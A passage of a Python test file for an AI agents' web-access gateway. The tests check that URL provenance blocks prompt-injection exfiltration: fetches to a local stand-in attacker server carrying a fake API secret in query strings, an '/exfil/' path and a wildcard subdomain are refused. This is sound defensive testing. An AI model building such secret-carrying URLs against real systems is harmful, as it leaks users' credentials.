"""Governance per agent and session, through ``Web``: URL provenance (``url_not_in_session``),
budgets (``budget_exhausted``) and each agent's own host and search lists.

The public web is a loopback server on 127.0.0.1; an exfiltration target is an accept-counting
listener on 127.0.0.2, inside ``allow_ranges`` so that only provenance stands in its way, and
its ``accepts`` prove that nothing connected.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import json
import os
import random
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fake_search import BRAVE_PATH, FakeBrave
from localserver import LocalServer, accept_counter, redirect, respond, send, serve

from webward import InvalidInput, Refused, Settings, StaticResolver, Web
from webward._budgets import budget_usage
from webward._credentials import EnvironmentStore
from webward._provenance import (
    _SESSION_OVERHEAD,
    _URL_OVERHEAD,
    MemorySessionStore,
    canonical,
    check_session,
    is_sessionless,
    open_session_store,
    scoped_session,
    urls_in,
)
from webward.limits import MemoryLimitState, SQLiteLimitState
from webward.limits._redis import RedisLimitState
from webward.testing import FakeClock, MemoryAuditSink

SRC = Path(__file__).resolve().parents[1] / "src"
BRAVE_KEY = "BSAsessions0123456789key"
SECRET = "sk-live-4f9a0c2e"


def settings(agent: dict[str, Any] | None = None, **sections: Any) -> Settings:
    """Loopback (127.0.0.1 and .2) allowed, tier connected, robots off, generous limits;
    the agent "bot" with ``agent``'s settings."""
    base: dict[str, Any] = {
        "network": {"allow_ranges": ["127.0.0.1/32", "127.0.0.2/32"]},
        "policy": {"default_tier": "connected", "robots": False},
        "limits": {"per_host_rate": 1000.0, "per_host_burst": 1000},
        "agents": {"bot": {"tier": "connected", **(agent or {})}},
    }
    for name, values in sections.items():
        base[name] = {**base.get(name, {}), **values}
    return Settings().replace(base)


def web(s: Settings, audit: MemoryAuditSink | None = None, **kw: Any) -> Web:
    kw.setdefault("credentials", EnvironmentStore({"BRAVE_SEARCH_API_KEY": BRAVE_KEY}))
    kw.setdefault("clock", FakeClock())
    return Web(s, StaticResolver({}), audit=audit or MemoryAuditSink(), **kw)


@pytest.fixture
def attacker() -> Iterator[LocalServer]:
    with accept_counter("127.0.0.2") as server:
        server.routes["*"] = respond(200, "thanks for the secret")
        yield server


@pytest.fixture
def site() -> Iterator[LocalServer]:
    with serve() as server:
        server.routes["/start"] = respond(
            200,
            "<html><body><p>Read <a href='/next?page=2'>the next page</a>. Also see "
            f"{server.url('/plain')} for more.</p></body></html>",
            "text/html",
        )
        for path in ("/next", "/plain", "/hit", "/other", "/final"):
            server.routes[path] = respond(200, f"<p>page {path}</p>", "text/html")
        server.routes["/hop"] = redirect(server.url("/final"))
        yield server


@pytest.fixture
def brave(site: LocalServer) -> Iterator[LocalServer]:
    items = [{"title": "Hit", "url": site.url("/hit"), "snippet": "a hit", "published": None}]
    with serve(routes={BRAVE_PATH: FakeBrave(items, BRAVE_KEY)}) as server:
        yield server


# ---- URL provenance --------------------------------------------------------------------------


def test_canonical_form_and_urls_in_text() -> None:
    """Scheme and host fold, the default port and fragment go; path and query stay exact."""
    assert canonical("HTTP://Example.ORG:80/a?b=1#frag") == "http://example.org/a?b=1"
    assert canonical("https://example.org/a?b=1") != canonical("https://example.org/a?b=2")
    assert canonical("ftp://example.org/") is None
    text = "See https://a.example/x?y=1. And (http://b.example/z), not mailto:c@d.example."
    assert urls_in(text) == ["https://a.example/x?y=1", "http://b.example/z"]
    # Balanced parentheses and an IPv6 host are part of the URL; a bracket it did not open
    # is not.
    text = (
        "https://en.wikipedia.org/wiki/Owl_(bird), [x](https://x.example/a_(b)) "
        "http://[2001:db8::1]:8080/p."
    )
    assert urls_in(text) == [
        "https://en.wikipedia.org/wiki/Owl_(bird)",
        "https://x.example/a_(b)",
        "http://[2001:db8::1]:8080/p",
    ]


def test_server_session_keys_of_two_agents_never_meet() -> None:
    """The key of an agent's session on a server: agent dave naming session "app:s" and
    agent "dave:app" naming "s" are two sessions (both were mcp:dave:app:app:s, so one agent
    could read URLs only the other's session had seen)."""
    assert scoped_session("mcp", "dave", "app:s") != scoped_session("mcp", "dave:app", "s")
    assert scoped_session("gateway", "dave", "app:s") != scoped_session("gateway", "dave:app", "s")
    assert scoped_session("mcp", "research-bot_1", "x") == "mcp:research-bot_1:x"


def test_a_session_name_meets_the_limit_it_is_told_whatever_the_agents_name() -> None:
    """A client is told "1 to 512 printable characters", and that is what it meets: the
    face's scope before the name no longer counts against it (an agent with a long name was
    refused every session), and a longer name is refused by that sentence."""
    for agent in ("a", "\u00e9" * 200, "x" * 200):
        check_session(scoped_session("gateway", agent, "s" * 512))
        with pytest.raises(InvalidInput, match="1 to 512 printable characters"):
            scoped_session("gateway", agent, "s" * 513)
    assert scoped_session("mcp", "\u00e9" * 200, "s") != scoped_session("mcp", "\u00e9" * 199, "s")


@pytest.mark.anyio
async def test_unseen_url_with_a_secret_is_refused_and_audited(
    site: LocalServer, attacker: LocalServer
) -> None:
    """The injection's URL was never seen: refused by name, audited, and nothing connects.
    The same URL with another query string is another URL."""
    audit = MemoryAuditSink()
    s = settings({"provenance": "session"})
    async with web(s, audit) as w:
        await w.declare_urls("s1", f"Summarise {site.url('/start')} please")
        await w.declare_urls("s1", attacker.url("/?q="))  # the bare prefix, no secret
        page = await w.fetch(site.url("/start"), agent="bot", session="s1")
        assert "next page" in page.content
        with pytest.raises(Refused) as err:
            await w.fetch(attacker.url(f"/?q={SECRET}"), agent="bot", session="s1")
    assert attacker.accepts == 0
    assert err.value.reason == "url_not_in_session"
    message = err.value.message
    assert message.startswith(f"refused: {attacker.url(f'/?q={SECRET}')} is not a URL this")
    assert "session s1 has not seen it" in message
    assert "[policy] allow" in message and 'provenance = "off" in [agents.bot]' in message
    assert [(r.decision, r.reason) for r in audit.records] == [
        ("allowed", "allowed"),
        ("refused", "url_not_in_session"),
    ]


@pytest.mark.anyio
async def test_a_declared_url_with_parentheses_is_read_whole(site: LocalServer) -> None:
    """A user's own URL with parentheses in its path (Wikipedia's article URLs) is the URL
    its session has seen: it was declared cut at the "(", as a URL nobody gave, and the read
    the user asked for was refused as never seen."""
    site.routes["/wiki/Owl_(bird)"] = respond(200, "<p>owls hoot</p>", "text/html")
    s = settings({"provenance": "session"})
    async with web(s) as w:
        await w.declare_urls("s1", f"Summarise {site.url('/wiki/Owl_(bird)')}, please")
        page = await w.fetch(site.url("/wiki/Owl_(bird)"), agent="bot", session="s1")
        assert "owls hoot" in page.content
        with pytest.raises(Refused) as err:  # the prefix was never given
            await w.fetch(site.url("/wiki/Owl"), agent="bot", session="s1")
    assert err.value.reason == "url_not_in_session"


@pytest.mark.anyio
async def test_urls_longer_than_the_default_are_seen_under_the_operators_limit(
    site: LocalServer,
) -> None:
    """With [limits] max_url_chars raised to 8,000, a user's own 3,000-character URL is
    declared, and one written in a page's text is seen: both were parsed under the default
    2,048 and dropped, so reading the URL the user gave was refused as never seen in the
    session (and the operator's step, 'add it to [policy] allow', was no cure)."""
    given = "/given?q=" + "a" * 3000
    written = "/written?q=" + "b" * 3000
    site.routes["/given"] = respond(200, f"<p>the page lists {site.url(written)} too</p>")
    site.routes["/written"] = respond(200, "<p>the written page</p>", "text/html")
    s = settings({"provenance": "session"}, limits={"max_url_chars": 8000})
    async with web(s) as w:
        await w.declare_urls("s1", f"Summarise {site.url(given)} please")
        first = await w.fetch(site.url(given), agent="bot", session="s1")
        second = await w.fetch(site.url(written), agent="bot", session="s1")
    assert "the page lists" in first.content and "the written page" in second.content


@pytest.mark.anyio
async def test_every_record_names_the_session_of_its_call(
    site: LocalServer, brave: LocalServer, attacker: LocalServer
) -> None:
    """Provenance and session budgets are per session, so each record says which session its
    call was in: reads and searches allowed, refused for provenance or past the session's
    budget, and a call refused for a bad session name (as given, cleaned). A call in no
    session says None; a search that got its hits back says how many its lists dropped (0
    here), a read None."""
    audit = MemoryAuditSink()
    s = settings(
        {"provenance": "session", "budget": {"fetch_per_session": 2}},
        search={"provider": "brave", "brave_url": brave.base},
    )
    async with web(s, audit) as w:
        await w.declare_urls("s1", site.url("/start"))
        await w.fetch(site.url("/start"), agent="bot", session="s1")
        with pytest.raises(Refused):
            await w.fetch(attacker.url(f"/?q={SECRET}"), agent="bot", session="s1")
        await w.search("notes", agent="bot", session="s2")
        await w.fetch(site.url("/hit"), agent="bot", session="s2")
        await w.fetch(site.url("/hit"), agent="bot", session="s2")
        with pytest.raises(Refused):
            await w.fetch(site.url("/hit"), agent="bot", session="s2")
        with pytest.raises(InvalidInput):
            await w.fetch(site.url("/hit"), agent="bot", session="bad\nname")
        await w.fetch(site.url("/plain"), agent="cli")
    assert attacker.accepts == 0
    assert [(r.reason, r.session, r.hits_dropped) for r in audit.records] == [
        ("allowed", "s1", None),
        ("url_not_in_session", "s1", None),
        ("allowed", "s2", 0),
        ("allowed", "s2", None),
        ("allowed", "s2", None),
        ("budget_exhausted", "s2", None),
        ("invalid_input", "bad\nname", None),
        ("allowed", None, None),
    ]


@pytest.mark.anyio
async def test_a_window_cut_inside_a_url_mints_no_url(
    site: LocalServer, attacker: LocalServer
) -> None:
    """A window that ends inside a URL written in the page holds a prefix of it: that prefix
    is no URL of the page and is refused (the agent chose where the window ends); the whole
    URL, read in the next window, is allowed."""
    whole = attacker.url("/exfil/ABCDEFGHIJ")
    text = f"<p>Words before the address. {whole} and words after it.</p>"
    site.routes["/leak"] = respond(200, text, "text/html")
    s = settings({"provenance": "session"})
    cut = len("Words before the address. ") + len(attacker.url("/exfil/AB"))
    async with web(s) as w:
        await w.declare_urls("s1", site.url("/leak"))
        first = await w.fetch(site.url("/leak"), agent="bot", session="s1", max_chars=cut)
        assert first.window.end == cut
        assert "/exfil/AB" in first.content and "/exfil/ABC" not in first.content
        with pytest.raises(Refused) as err:
            await w.fetch(attacker.url("/exfil/AB"), agent="bot", session="s1")
        assert err.value.reason == "url_not_in_session" and attacker.accepts == 0
        await w.fetch(site.url("/leak"), agent="bot", session="s1")  # the whole text
        await w.fetch(whole, agent="bot", session="s1")
    assert attacker.accepts == 1


@pytest.mark.anyio
async def test_links_text_hits_and_redirects_of_the_session_are_allowed(
    site: LocalServer, brave: LocalServer
) -> None:
    """A read page's links and the URLs in its text, a search hit, and a redirect's target
    (which needs no provenance) are allowed; another session has seen none of them."""
    s = settings({"provenance": "session"}, search={"provider": "brave", "brave_url": brave.base})
    async with web(s) as w:
        await w.declare_urls("s1", site.url("/start"), site.url("/hop"))
        await w.fetch(site.url("/start"), agent="bot", session="s1")
        await w.fetch(site.url("/next?page=2"), agent="bot", session="s1")  # a link
        await w.fetch(site.url("/plain"), agent="bot", session="s1")  # text of the page
        hop = await w.fetch(site.url("/hop"), agent="bot", session="s1")  # redirect
        assert hop.final_url == site.url("/final")
        with pytest.raises(Refused) as err:
            await w.fetch(site.url("/hit"), agent="bot", session="s1")
        assert err.value.reason == "url_not_in_session"
        result = await w.search("hits", agent="bot", session="s1")
        assert [h.url for h in result.hits] == [site.url("/hit")]
        await w.fetch(site.url("/hit"), agent="bot", session="s1")  # now a search hit
        await w.fetch(site.url("/final"), agent="bot", session="s1")  # seen as the redirect
        for url in (site.url("/next?page=3"), site.url("/plain")):
            with pytest.raises(Refused):  # another query; another session
                await w.fetch(url, agent="bot", session="s1" if "page=3" in url else "s2")
        with pytest.raises(Refused) as none:
            await w.fetch(site.url("/start"), agent="bot")
        assert "the call names no session" in none.value.message


@pytest.mark.anyio
async def test_only_an_agent_with_provenance_keeps_the_urls_it_sees(
    site: LocalServer, brave: LocalServer
) -> None:
    """No session of an agent without provenance is ever asked, so its reads and searches
    keep nothing: one token reading a page of long links under a new session name each time
    filled a shared Redis, and every other agent was refused ``limits_unavailable``."""
    s = settings(
        {"provenance": "session"}, search={"provider": "brave", "brave_url": brave.base}
    ).replace({"agents": {"free": {"tier": "connected"}}})
    store = MemorySessionStore(100, 3600.0)
    async with web(s, session_store=store) as w:
        for i in range(3):
            await w.fetch(site.url("/start"), agent="free", session=f"f{i}", include_links=True)
            await w.search("hits", agent="free", session=f"f{i}")
        assert store._total == 0 and not store._sessions
        await w.declare_urls("s1", site.url("/start"))
        await w.fetch(site.url("/start"), agent="bot", session="s1", include_links=True)
        await w.search("hits", agent="bot", session="s1")
        for path in ("/start", "/next?page=2", "/plain", "/hit"):
            assert await store.has("s1", site.url(path))


@pytest.mark.anyio
@pytest.mark.parametrize("name", ["Bot", "bot ", "BOT", "\uff42ot"])
async def test_a_name_that_only_looks_like_a_configured_agent_is_refused(
    name: str, attacker: LocalServer, tmp_path: Path
) -> None:
    """A name differing from a configured agent only in case, spacing or Unicode form read
    with the default tier and none of that agent's provenance, in silence; it is refused by
    name, audited, before anything is sent, on every face (``webward mcp --agent`` before
    its server starts)."""
    audit = MemoryAuditSink()
    async with web(settings({"provenance": "session"}), audit) as w:
        with pytest.raises(InvalidInput) as err:
            await w.fetch(attacker.url(f"/?q={SECRET}"), agent=name, session="s1")
    assert err.value.message == (
        f"agent {name!r} is not in the config, but differs from agent 'bot' only in case, "
        "spacing or Unicode form, and would read without [agents.bot]'s tier, lists, "
        "provenance and budgets; name the agent exactly as the config does"
    )
    assert [(r.agent, r.decision, r.reason) for r in audit.records] == [
        (name, "refused", "invalid_input")
    ]
    assert attacker.accepts == 0
    config = tmp_path / "webward.toml"
    config.write_text('[agents.bot]\nprovenance = "session"\n', encoding="utf-8")
    started = subprocess.run(
        [sys.executable, "-m", "webward.cli", "mcp", "--config", str(config), "--agent", name],
        env={**os.environ, "PYTHONPATH": str(SRC)},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert (started.returncode, started.stderr) == (2, f"webward: {err.value.message}\n")


@pytest.mark.anyio
async def test_allow_list_hosts_pass_and_other_agents_are_untouched(site: LocalServer) -> None:
    """[policy] allow hosts always pass; an agent without provenance reads as before."""
    s = settings({"provenance": "session"}, policy={"allow": ["127.0.0.1"]})
    async with web(s) as w:
        await w.fetch(site.url("/other"), agent="bot", session="s1")
    async with web(settings({"provenance": "session"})) as w:
        await w.fetch(site.url("/other"), agent="cli")


class RecordingResolver(StaticResolver):
    """A table's answers, and every name it was asked for: proof that no lookup was made."""

    def __init__(self, table: dict[str, list[str]]) -> None:
        super().__init__(table)
        self.asked: list[str] = []

    async def resolve(self, host: str) -> list[str]:
        self.asked.append(host)
        return await super().resolve(host)


@pytest.mark.anyio
async def test_a_wildcard_on_the_allow_list_does_not_skip_provenance(attacker: LocalServer) -> None:
    """Anyone can make a host under a shared platform's domain (``*.readthedocs.io``): a
    wildcard let the agent send a secret there, in the name looked up and in the request. A
    host the allow list names exactly still passes; one its wildcard covers is refused
    before any lookup."""
    secret_host = "sk-live-4f9a.attacker.pages-platform.net"
    resolver = RecordingResolver(
        {secret_host: ["127.0.0.2"], "docs.pages-platform.net": ["127.0.0.2"]}
    )
    s = settings(
        {"provenance": "session"},
        policy={"allow": ["*.pages-platform.net", "docs.pages-platform.net"]},
    )
    async with Web(s, resolver, audit=MemoryAuditSink(), clock=FakeClock()) as w:
        with pytest.raises(Refused) as err:
            await w.fetch(
                f"http://{secret_host}:{attacker.port}/?q={SECRET}", agent="bot", session="s1"
            )
        assert resolver.asked == [] and attacker.accepts == 0
        await w.fetch(
            f"http://docs.pages-platform.net:{attacker.port}/x", agent="bot", session="s1"
        )
    assert err.value.reason == "url_not_in_session"
    assert resolver.asked == ["docs.pages-platform.net"] and attacker.accepts == 1


@pytest.mark.anyio
async def test_report_mode_logs_would_refuse(site: LocalServer, attacker: LocalServer) -> None:
    """In report mode the unseen URL is read, and the audit says enforce would refuse it."""
    audit = MemoryAuditSink()
    s = settings({"provenance": "session"}, policy={"mode": "report"})
    async with web(s, audit) as w:
        await w.fetch(attacker.url("/?q=x"), agent="bot", session="s1")
    assert attacker.accepts == 1
    assert [(r.decision, r.would_deny) for r in audit.records] == [
        ("report-would-deny", "url_not_in_session")
    ]


@pytest.mark.anyio
async def test_sessions_are_bounded_in_size_and_age() -> None:
    clock = FakeClock()
    store = MemorySessionStore(max_urls=2, max_age_s=60, max_sessions=2, clock=clock)
    await store.add("a", ["http://x.example/1", "http://x.example/2", "http://x.example/3"])
    assert not await store.has("a", "http://x.example/1")  # the oldest went first
    assert await store.has("a", "http://x.example/3")
    clock.advance(61)
    assert not await store.has("a", "http://x.example/3")  # idle too long: forgotten whole
    for name in ("b", "c", "d"):
        await store.add(name, ["http://x.example/1"])
    assert not await store.has("b", "http://x.example/1")  # at most two sessions
    assert await store.has("d", "http://x.example/1")


def recount(store: MemorySessionStore) -> int:
    """What the store holds, counted afresh: what its running total must always equal."""
    return sum(
        len(name) + _SESSION_OVERHEAD + sum(len(url) + _URL_OVERHEAD for url in entry.urls)
        for name, entry in store._sessions.items()
    )


def held(name: str, *urls: str) -> int:
    """What a session named ``name`` holding ``urls`` costs."""
    return len(name) + _SESSION_OVERHEAD + sum(len(u) + _URL_OVERHEAD for u in urls)


U = [f"http://x.example/{i}" for i in range(10)]  # 18 characters each


@pytest.mark.anyio
async def test_process_memory_forgets_least_recently_used_sessions_first() -> None:
    """Past [limits] session_memory_max_bytes the session least recently added to goes
    whole, not the one being added to, nor one used more recently."""
    room = 3 * held("a", U[0], U[1])
    store = MemorySessionStore(max_urls=100, max_age_s=60, max_bytes=room, clock=FakeClock())
    for name in ("a", "b", "c"):
        await store.add(name, U[:2])
    assert store._total == room  # exactly full: nothing forgotten yet
    await store.add("a", [U[0]])  # a is used again: b is now the least recent
    await store.add("d", U[:2])
    assert not await store.has("b", U[0])
    assert all([await store.has(n, U[1]) for n in ("a", "c", "d")])
    assert store._total == recount(store) == room


@pytest.mark.anyio
async def test_a_session_alone_past_the_bound_forgets_its_own_oldest_urls() -> None:
    """Other sessions go first; then the session being added to keeps its newest URLs. A URL
    longer than the whole bound is counted too (and so not kept), whatever its length."""
    room = held("b", *U[:3])
    store = MemorySessionStore(max_urls=100, max_age_s=60, max_bytes=room, clock=FakeClock())
    await store.add("a", [U[0]])
    await store.add("b", U[:5])
    assert not await store.has("a", U[0])
    assert [await store.has("b", u) for u in U[:5]] == [False, False, True, True, True]
    assert store._total == recount(store) == room
    huge = "http://x.example/" + "a" * room
    await store.add("c", [huge])
    assert not await store.has("c", huge)
    assert not await store.has("b", U[4])
    assert store._total == recount(store) == held("c")


@pytest.mark.anyio
async def test_one_agent_naming_session_after_session_forgets_its_own_not_others() -> None:
    """Sessions are one store for every agent of a gateway: one token that named a new
    session per request (10,001 requests, each refused, nothing spent) evicted every other
    agent's, and a request that declared no URL made a session too. Now an agent holding
    more than half of either bound forgets its own least recently used, and no URL, no
    session."""
    bob = scoped_session("gateway", "bob", "mine")
    store = MemorySessionStore(max_urls=100, max_age_s=60, max_sessions=4, clock=FakeClock())
    await store.add(bob, [U[0]])
    for i in range(50):
        await store.add(scoped_session("gateway", "erin", f"s{i}"), [])  # declared nothing
    assert len(store._sessions) == 1
    for i in range(50):
        await store.add(scoped_session("gateway", "erin", f"s{i}"), [U[1]])
    assert await store.has(bob, U[0])
    assert await store.has(scoped_session("gateway", "erin", "s49"), U[1])
    assert len(store._sessions) == 4  # bob's, and erin's three newest
    room = 4 * held(bob, U[0], U[1])
    by_bytes = MemorySessionStore(max_urls=100, max_age_s=60, max_bytes=room, clock=FakeClock())
    await by_bytes.add(bob, U[:2])
    for i in range(50):
        await by_bytes.add(scoped_session("gateway", "erin", f"t{i}"), U[:2])
    assert await by_bytes.has(bob, U[1])
    assert by_bytes._total == recount(by_bytes) <= room
    # One session past half the bound gives up its own oldest URLs, not bob's sessions; and
    # while erin holds more than half, another agent's adds take room from her, not bob.
    one = MemorySessionStore(max_urls=1000, max_age_s=60, max_bytes=room, clock=FakeClock())
    await one.add(bob, U[:2])
    await one.add(scoped_session("gateway", "erin", "big"), [f"{U[0]}?{i}" for i in range(200)])
    assert await one.has(bob, U[1])
    crowd = MemorySessionStore(max_urls=100, max_age_s=60, max_sessions=10, clock=FakeClock())
    await crowd.add(bob, [U[0]])
    for i in range(9):
        await crowd.add(scoped_session("gateway", "erin", f"s{i}"), [U[1]])
    for i in range(4):  # each evicts one of erin's, down to half the bound
        await crowd.add(scoped_session("gateway", "carol", f"c{i}"), [U[2]])
    assert await crowd.has(bob, U[0])
    assert len(crowd._owned["erin"].sessions) == 5
    # One agent through two faces is one owner: its gateway and MCP sessions together give way.
    faces = MemorySessionStore(max_urls=100, max_age_s=60, max_sessions=10, clock=FakeClock())
    await faces.add(bob, [U[0]])
    for i in range(5):
        await faces.add(scoped_session("gateway", "erin", f"g{i}"), [U[1]])
        await faces.add(scoped_session("mcp", "erin", f"m{i}"), [U[1]])
    assert await faces.has(bob, U[0])


@pytest.mark.anyio
async def test_a_page_of_many_links_is_bounded_as_it_is_added() -> None:
    """The URLs of one huge page, added in one call, never make the store hold more than the
    bound and one URL, even in the middle of the call (not only once it ends)."""
    room = 100_000
    store = MemorySessionStore(max_urls=1_000_000, max_age_s=60, max_bytes=room)
    peak = 0

    def links() -> Iterator[str]:
        nonlocal peak
        for i in range(50_000):  # about 8.5 MB counted, if nothing were forgotten
            peak = max(peak, store._total)
            yield f"http://x.example/page/{i}"

    await store.add("s", links())
    assert room - 200 < peak <= room + len("http://x.example/page/49999") + _URL_OVERHEAD
    assert await store.has("s", "http://x.example/page/49999")
    assert not await store.has("s", "http://x.example/page/0")
    assert store._total == recount(store) <= room


@pytest.mark.anyio
async def test_the_running_total_never_drifts() -> None:
    """Adds, repeats, idle expiry (on add and on lookup), the URL cap, the session cap and the
    bytes bound, many times over: the running total always equals a recount."""
    rng = random.Random(17)
    clock = FakeClock()
    store = MemorySessionStore(
        max_urls=6, max_age_s=50, max_sessions=5, max_bytes=6_000, clock=clock
    )
    most_bytes = most_sessions = 0
    for step in range(3_000):
        name = f"s{rng.randrange(20)}"
        if rng.random() < 0.2:
            await store.has(name, U[0])  # may find the session expired and forget it
        else:
            count = rng.randrange(1, 10)
            await store.add(name, [f"http://x.example/{rng.randrange(60)}" for _ in range(count)])
        assert store._total == recount(store), step
        assert store._total <= 6_000
        most_bytes = max(most_bytes, store._total)
        most_sessions = max(most_sessions, len(store._sessions))
        clock.advance(rng.choice((0, 1, 5, 60)))
    assert most_bytes > 6_000 - 200  # both bounds were reached, not only approached
    assert most_sessions == 5
    for name in [f"s{i}" for i in range(20)]:
        clock.advance(51)
        await store.has(name, U[0])
    assert store._sessions == {}
    assert store._total == 0


def test_the_store_takes_the_configured_bound() -> None:
    """open_session_store hands [limits] session_memory_max_bytes to the memory store."""
    s = Settings().replace({"limits": {"session_memory_max_bytes": 5 * 1024 * 1024}})
    configured, default = open_session_store(s), open_session_store(Settings())
    assert isinstance(configured, MemorySessionStore)
    assert isinstance(default, MemorySessionStore)
    assert (configured._max_bytes, default._max_bytes) == (5 * 1024 * 1024, 64 * 1024 * 1024)


@pytest.mark.anyio
async def test_replicas_share_sessions_through_redis(site: LocalServer, redis_url: str) -> None:
    """A URL one replica saw is known to the other."""
    s = settings({"provenance": "session"}, state={"redis_url": redis_url})
    async with web(s) as one, web(s) as two:
        await one.declare_urls("shared", site.url("/start"))
        await one.fetch(site.url("/start"), agent="bot", session="shared")
        await two.fetch(site.url("/next?page=2"), agent="bot", session="shared")
        with pytest.raises(Refused):
            await two.fetch(site.url("/other"), agent="bot", session="shared")


# ---- budgets ---------------------------------------------------------------------------------


@pytest.mark.anyio
async def test_fetch_budgets_per_session_and_hour_renew(site: LocalServer) -> None:
    """Past a budget: budget_exhausted, with when it renews; a refused call costs nothing."""
    clock = FakeClock(start=7200.0)  # 02:00:00 UTC on 1970-01-01
    audit = MemoryAuditSink()
    s = settings({"budget": {"fetch_per_session": 2, "fetch_per_hour": 3}})
    async with web(s, audit, clock=clock) as w:
        await w.fetch(site.url("/next"), agent="bot", session="a")
        await w.fetch(site.url("/next"), agent="bot", session="a")
        with pytest.raises(Refused) as per_session:
            await w.fetch(site.url("/next"), agent="bot", session="a")
        await w.fetch(site.url("/next"), agent="bot", session="b")
        with pytest.raises(Refused) as per_hour:
            await w.fetch(site.url("/next"), agent="bot", session="c")
        usage = {
            (r["scope"], r["used"]) for r in await budget_usage(s, w._budgets.state, clock=clock)
        }
        assert usage == {("hour", 3.0)}
        clock.advance(3600)
        await w.fetch(site.url("/next"), agent="bot", session="c")
    assert per_session.value.reason == "budget_exhausted"
    assert per_session.value.message == (
        "refused: agent bot has used its budget of 2 fetch calls per session in session a, "
        "and a session's budget does not renew; a new session starts from 0, or an operator "
        "can raise [agents.bot.budget] fetch_per_session"
    )
    assert "it renews at 1970-01-01T03:00:00Z" in per_hour.value.message
    # A backoff needs no parsing of the sentence: the renewal in seconds, as rate limits give.
    assert (per_session.value.retry_after, per_hour.value.retry_after) == (None, 3600.0)
    assert [r.reason for r in audit.records].count("budget_exhausted") == 2


@pytest.mark.anyio
async def test_a_sessionless_mcp_clients_budget_refusal_says_how_to_name_a_session(
    site: LocalServer,
) -> None:
    """A stateless MCP-over-HTTP client that names no session has all its agent's calls in
    one session (``mcp:<agent>:agent``): the refusal told it to "start a new session", which
    such a client cannot; it now says the client names one in _meta, and the model is not
    told to do what it cannot."""
    sessionless = scoped_session("mcp", "bot", "agent")
    assert is_sessionless(sessionless)
    assert not is_sessionless(scoped_session("mcp", "bot", "app:agent"))  # _meta named "agent"
    assert not is_sessionless(scoped_session("gateway", "bot", "agent"))
    async with web(settings({"budget": {"fetch_per_session": 1}})) as w:
        await w.fetch(site.url("/next"), agent="bot", session=sessionless)
        with pytest.raises(Refused) as err:
            await w.fetch(site.url("/next"), agent="bot", session=sessionless)
    assert err.value.message == (
        "refused: agent bot has used its budget of 1 fetch calls per session in session "
        "mcp:bot:agent, and a session's budget does not renew; this MCP client names no "
        "session, so all of agent bot's calls on this server are one session: the client can "
        'name one per conversation in _meta "webward/session", or an operator can raise '
        "[agents.bot.budget] fetch_per_session"
    )
    assert err.value.for_model == (
        "refused: agent bot has used its budget of 1 fetch calls per session in session "
        "mcp:bot:agent, and a session's budget does not renew; only webward's operator can "
        "change that"
    )
    assert "start a new session" not in err.value.message


@pytest.mark.anyio
async def test_a_read_refused_past_the_budgets_charge_costs_nothing(site: LocalServer) -> None:
    """Refused after the budget was charged (robots.txt here, a host's rate limit alike): the
    charge is given back, so three refused reads leave a budget of three whole."""
    site.routes["/robots.txt"] = respond(200, "User-agent: *\nDisallow: /blocked\n", "text/plain")
    site.routes["/blocked"] = respond(200, "<p>never read</p>", "text/html")
    s = settings({"budget": {"fetch_per_session": 3}}, policy={"robots": True})
    async with web(s) as w:
        for _ in range(3):
            with pytest.raises(Refused) as refused:
                await w.fetch(site.url("/blocked"), agent="bot", session="a")
            assert refused.value.reason == "robots"
        for _ in range(3):
            await w.fetch(site.url("/next"), agent="bot", session="a")
        with pytest.raises(Refused) as spent:
            await w.fetch(site.url("/next"), agent="bot", session="a")
    assert spent.value.reason == "budget_exhausted"


@pytest.mark.anyio
async def test_a_read_refused_after_it_sent_requests_stays_charged(site: LocalServer) -> None:
    """Refused once the body came back (a type no model reads): the request went out, so
    the charge stands; otherwise an agent could send requests past its budget for ever."""
    site.routes["/blob"] = respond(200, b"\x00\x01" * 1000, "application/octet-stream")
    s = settings({"budget": {"fetch_per_day": 2}})
    async with web(s) as w:
        for _ in range(2):
            with pytest.raises(Refused) as binary:
                await w.fetch(site.url("/blob"), agent="bot")
            assert binary.value.reason == "binary_type"
        with pytest.raises(Refused) as spent:
            await w.fetch(site.url("/blob"), agent="bot")
    assert spent.value.reason == "budget_exhausted"


@pytest.mark.anyio
async def test_search_calls_and_spend_budgets(brave: LocalServer) -> None:
    """Each provider call costs [search.brave] cost; past the spend budget nothing is sent."""
    s = settings(
        {"budget": {"search_spend_per_day": 0.025, "search_per_session": 10}},
        search={"provider": "brave", "brave_url": brave.base, "brave": {"cost": 0.01}},
    )
    async with web(s) as w:
        await w.search("one", agent="bot", session="s")
        await w.search("two", agent="bot", session="s")
        with pytest.raises(Refused) as err:
            await w.search("three", agent="bot", session="s")
    assert err.value.reason == "budget_exhausted"
    assert err.value.message.startswith(
        "refused: agent bot has used its search spend budget of 0.025 per day; it renews at "
    )
    assert err.value.message.endswith("can raise [agents.bot.budget] search_spend_per_day")
    assert len(brave.requests) == 2


@pytest.mark.anyio
async def test_a_search_refused_before_its_provider_was_sent_anything_costs_nothing(
    brave: LocalServer,
) -> None:
    """A filter the provider cannot honour, and a search refused in the provider's 429 hold,
    send nothing: each was charged a call (and the hold's a spend) that was never given back,
    so three refused searches used up a budget of three. Now only the searches the provider
    answered count, the 429 among them."""

    def too_many(req: Any, sock: Any) -> None:
        send(sock, 429, b'{"type": "ErrorResponse"}', "application/json", {"Retry-After": "120"})

    s = settings(
        {"budget": {"search_per_day": 3, "search_spend_per_day": 2.0}},
        search={"provider": "brave", "brave_url": brave.base, "brave": {"cost": 1.0}},
    )
    async with web(s) as w:
        for _ in range(3):
            with pytest.raises(InvalidInput):  # not one of Brave's languages
                await w.search("q", agent="bot", language="sw")
        await w.search("q", agent="bot")
        brave.routes[BRAVE_PATH] = too_many
        with pytest.raises(Refused) as answered:
            await w.search("q", agent="bot")
        with pytest.raises(Refused) as held:
            await w.search("q", agent="bot")
        used = {(u["kind"], u["used"]) for u in await w._gate.budgets.usage("bot")}
    assert answered.value.status == 429 and held.value.status is None
    assert len(brave.requests) == 2
    assert used == {("calls", 2.0), ("spend", 2.0)}


def _cli(config: Path, state: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {
        "PATH": os.environ.get("PATH", ""),
        "PYTHONPATH": str(SRC),
        "WEBWARD_STATE_DIR": str(state),
        "XDG_CONFIG_HOME": str(state / "xdg"),
        "PYTHON_KEYRING_BACKEND": "keyring.backends.null.Keyring",
    }
    return subprocess.run(
        [sys.executable, "-m", "webward.cli", *args, "--config", str(config)],
